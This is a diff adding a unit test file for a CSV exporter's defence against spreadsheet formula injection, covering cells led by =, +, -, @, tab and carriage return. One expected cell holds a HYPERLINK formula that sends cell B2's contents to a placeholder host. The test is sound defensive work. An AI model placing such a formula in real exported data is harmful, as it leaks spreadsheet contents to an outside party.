@@ -1,0 +1,48 @@
+// CSV neutralization: bug-18's exact cells, and what stays untouched.
+import { existsSync, readFileSync } from 'node:fs';
+import { resolve } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { neutralizeCell, toCsv } from '../../src/export/csv.js';
+
+const bugDir = resolve(__dirname, '../../../shared/bugcases/bug-18');
+
+describe('neutralizeCell', () => {
+  it.each([
+    ['=1+1', "'=1+1"], ['+1', "'+1"], ['-1', "'-1"], ['@x', "'@x"], ['\tx', "'\tx"], ['\rx', "'\rx"],
+    ['plain', 'plain'], [' =x', ' =x'], ['', ''], ["'=already", "'=already"],
+  ])('%j -> %j', (input, expected) => {
+    expect(neutralizeCell(input)).toBe(expected);
+  });
+});
+
+describe.skipIf(!existsSync(bugDir))('bug-18: formula injection in evidence rows', () => {
+  // vitest runs a skipped describe's body to collect it: read only when the case exists.
+  const rows = existsSync(bugDir)
+    ? JSON.parse(readFileSync(resolve(bugDir, 'evidence-rows.json'), 'utf8')).rows
+    : [];
+  const columns = ['ticket', 'source', 'summary', 'reporter', 'grant_minutes', 'delta_minutes']
+    .map((key) => ({ key, header: key }));
+  const csv = toCsv(columns, rows).toString('utf8');
+  const lines = csv.replace(/^\ufeff/, '').split('\n');
+
+  it('puts the apostrophe inside the quotes of every dangerous text cell', () => {
+    expect(csv).toContain('"\'=HYPERLINK(""https://example.invalid/c?d=""&B2,""Open runbook"")"');
+    expect(csv).toContain('"\'+CHG0040017 emergency access"');
+    expect(csv).toContain('"\'-2h extension approved by phone"');
+    expect(csv).toContain('"\'@ops-oncall"');
+    expect(csv).toContain('"\'\tTab-led note from import"');
+    expect(csv).toContain('"\'\r=2+5"');
+  });
+
+  it('neutralizes the source string "-120" but leaves computed numbers alone', () => {
+    expect(lines[3]).toBe('"CHG0040019","servicenow","\'-2h extension approved by phone","Tomás Ibarra",120,"\'-120"');
+    expect(lines[1]).toMatch(/,240,-15$/);
+    expect(lines[4]).toMatch(/,30,5$/);
+    expect(lines[6]).toBe('"ACC-934","jira","Rotate DB password after use","Ana Silva",45,0');
+  });
+
+  it('writes a BOM, a header row and one line per row', () => {
+    expect(csv.startsWith('\ufeff"ticket","source","summary"')).toBe(true);
+    expect(lines.filter((l) => l !== '')).toHaveLength(1 + rows.length); // the \r cell holds a CR, no LF
+  });
+});
